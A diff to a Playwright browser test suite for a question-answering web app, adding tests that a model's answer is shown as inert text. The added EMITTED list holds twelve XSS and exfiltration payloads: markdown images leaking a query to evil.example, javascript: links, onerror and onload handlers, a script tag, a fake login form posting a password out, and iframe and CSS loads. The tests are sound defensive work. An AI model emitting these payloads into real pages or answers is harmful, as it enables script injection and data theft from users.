@@ -6,15 +6,19 @@ script error and anything the content policy had to block.
 
 from __future__ import annotations
 
+import time
 from dataclasses import replace
+from pathlib import Path
 
 import pytest
-from playwright.sync_api import Page, expect
+from playwright.sync_api import BrowserContext, Page, expect
 
-from qa_app.contract import Conflict, ConflictValue
-from tests.browser.conftest import Watched, ask
+from qa_app.contract import AnswerSentence, Conflict, ConflictValue
+from tests.browser.conftest import Watched, ask, leave, opened
+from tests.fakes import ScriptedModel
+from tests.generation.build import GAVE, QUESTION, written_by
 from tests.web.fake_assistant import FakeAssistant, Written, nothing, said
-from tests.web.live import HOSTILE
+from tests.web.live import HOSTILE, running
 from vectorstore.errors import StoreError
 
 pytestmark = pytest.mark.browser
@@ -58,6 +62,58 @@ def test_a_hostile_article_is_read_as_text(page: Page, evil: FakeAssistant) -> N
     assert "".join(pieces) == WORDS
     expect(page.locator("#qa-panel .path")).to_have_text(SOURCE)
     unhurt(page)
+
+
+EMITTED = (
+    "![boats](http://evil.example/a.png?q=six) came.",
+    "![boats][r] came.\n\n[r]: http://evil.example/b.png",
+    "[![boats](http://evil.example/c.png)](javascript:window.hurt=1) came.",
+    "<img src=http://evil.example/d.png onerror=window.hurt=1> came.",
+    "<script>window.hurt = 1</script> came.",
+    "<svg onload=window.hurt=1><image href=http://evil.example/e.png /></svg> came.",
+    "```mermaid\ngraph TD; A-->B; click A javascript:window.hurt=1\n```",
+    "[Six boats](javascript:window.hurt=1) came.",
+    "<a href=javascript:window.hurt=1>Six boats</a> came.",
+    "<form action=http://evil.example><input name=password><button>Log in</button></form> came.",
+    "<iframe src=http://evil.example></iframe><video poster=http://evil.example/f></video> came.",
+    "<div style='background: url(http://evil.example/g)'>Six boats</div> came.",
+)
+
+
+def test_row_50_what_a_model_emits_is_text_even_if_nothing_had_checked_it(
+    page: Page, assistant: FakeAssistant, watched: Watched
+) -> None:
+    cited = assistant.cite(1, "vessels.md", "Delivery was planned for 2025.")
+    answer = said(cited, mode="model", model="some:model", answer="\n".join(EMITTED))
+    sentences = tuple(AnswerSentence(words, (1,), "supported") for words in EMITTED)
+    assistant.queue.append(replace(answer, sentences=sentences))
+    assistant.before_each = lambda: time.sleep(0.05)  # so that each is shown by itself
+    ask(page, "How many boats?")
+    shown = page.locator(".said").text_content() or ""
+    for words in EMITTED:
+        assert " ".join(words.split()) in " ".join(shown.split())
+    unhurt(page)
+    page.locator(".said .marker").first.click()
+    expect(page.locator("mark#quote")).to_be_visible()
+    unhurt(page)
+    assert watched.foreign() == []
+
+
+def test_row_50_a_model_that_emits_it_is_not_shown(
+    context: BrowserContext, tmp_path: Path, watched: Watched
+) -> None:
+    text = f"{GAVE} [1] " + " [1]\n\n".join(EMITTED)
+    model = ScriptedModel([text[at : at + 7] for at in range(0, len(text), 7)])
+    with written_by(tmp_path, model) as real, running(real) as address:
+        page = opened(context, address)
+        ask(page, QUESTION)
+        expect(page.locator(".said .sentence")).to_have_count(1)
+        expect(page.locator(".said")).to_contain_text(GAVE)
+        assert "evil" not in (page.locator(".exchange").text_content() or "")
+        unhurt(page)
+        leave(context)
+    assert model.history
+    assert watched.foreign() == []
 
 
 def test_a_hostile_question_reason_and_error_are_text(page: Page, evil: FakeAssistant) -> None:
